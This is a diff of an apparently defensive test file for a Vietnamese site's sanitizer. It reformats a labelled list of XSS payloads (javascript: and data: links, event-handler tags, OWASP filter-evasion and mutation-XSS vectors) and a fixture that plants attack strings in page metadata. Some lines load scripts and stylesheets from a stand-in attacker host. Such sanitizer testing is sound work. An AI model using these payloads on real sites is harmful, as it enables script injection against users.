@@ -21,7 +21,8 @@ BODY_ATTACKS = [
     ("js-autolink", "<javascript:alert(3)>", 0),
     ("js-entity-link", "[Xem](java&#115;cript:alert(4))", 0),
     ("js-all-entities-link",
-     "[Xem](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(5))", 0),
+     "[Xem](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
+     "alert(5))", 0),
     ("js-case-link", "[Xem](JaVaScRiPt:alert(6))", 0),
     ("js-colon-entity-link", "[Xem](javascript&colon;alert(7))", 0),
     ("tag-split-over-lines", "<img\n  src=\"x.jpg\"\n  onerror=\"alert(8)\">", 2),
@@ -37,16 +38,19 @@ BODY_ATTACKS = [
      0),
     ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(11)&lt;/script&gt;\">"
                       "</iframe>", 0),
-    ("data-url-link", "[Mở](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=)",
+    ("data-url-link",
+     "[Mở](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=)",
      0),
-    ("data-url-image", "![Ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTMpPg==)",
+    ("data-url-image",
+     "![Ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTMpPg==)",
      0),
     # --- OWASP filter evasion classes -------------------------------------------
     ("script-src", f"<SCRIPT SRC=https://{EVIL}/xss.js></SCRIPT>", 0),
     ("script-inline", "<script>alert(14)</script>", 0),
     ("img-js-src", "<IMG SRC=\"javascript:alert('XSS');\">", 0),
     ("img-js-case-unquoted", "<IMG SRC=JaVaScRiPt:alert(15)>", 0),
-    ("img-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>", 0),
+    ("img-fromcharcode",
+     "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>", 0),
     ("anchor-onmouseover", "<a onmouseover=\"alert(16)\">liên kết</a>", 0),
     ("malformed-img-quotes", "<IMG \"\"\"><SCRIPT>alert(17)</SCRIPT>\">", 0),
     ("img-onmouseover", "<IMG SRC=# onmouseover=\"alert(18)\">", 0),
@@ -69,7 +73,8 @@ BODY_ATTACKS = [
     ("body-background", "<BODY BACKGROUND=\"javascript:alert(26)\">", 0),
     ("img-dynsrc", "<IMG DYNSRC=\"javascript:alert(27)\">", 0),
     ("svg-script", "<svg><script>alert(28)</script></svg>", 0),
-    ("link-stylesheet", f"<LINK REL=\"stylesheet\" HREF=\"https://{EVIL}/xss.css\">", 0),
+    ("link-stylesheet",
+     f"<LINK REL=\"stylesheet\" HREF=\"https://{EVIL}/xss.css\">", 0),
     ("div-style-url", "<DIV STYLE=\"background-image: url(javascript:alert(29))\">x"
                       "</DIV>", 0),
     ("table-background", "<TABLE BACKGROUND=\"javascript:alert(30)\"><tr><td>x</td>"
@@ -80,7 +85,8 @@ BODY_ATTACKS = [
                   "Pg==\" type=\"image/svg+xml\">", 0),
     ("mxss-math-style", "<math><mtext><table><mglyph><style><img src=x "
                         "onerror=alert(32)>", 0),
-    ("mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(33)>\">",
+    ("mxss-noscript",
+     "<noscript><p title=\"</noscript><img src=x onerror=alert(33)>\">",
      0),
     ("details-ontoggle", "<details open ontoggle=alert(34)><summary>x</summary>"
                          "</details>", 0),
@@ -142,7 +148,8 @@ def hostile_files():
         "bulletins/2020/so-1-bia.jpg": cover_bytes(),
         "bulletins/2020/so-1.pdf": pdf_bytes(),
         "qa/tan-cong.md": (
-            f"Title: {TEXT_ATTACKS[0]}\nSlug: hoi-tan-cong\nQuestion: {TEXT_ATTACKS[3]}\n"
+            f"Title: {TEXT_ATTACKS[0]}\nSlug: hoi-tan-cong\n"
+            f"Question: {TEXT_ATTACKS[3]}\n"
             f"Asker: {TEXT_ATTACKS[1]}\nLocality: {TEXT_ATTACKS[2]}\n"
             "Asked: 01/02/2020\nField: Sở hữu trí tuệ\n"
             f"Answerer: {TEXT_ATTACKS[4]}\nExpert: {ENCODED_ATTACK}\n"
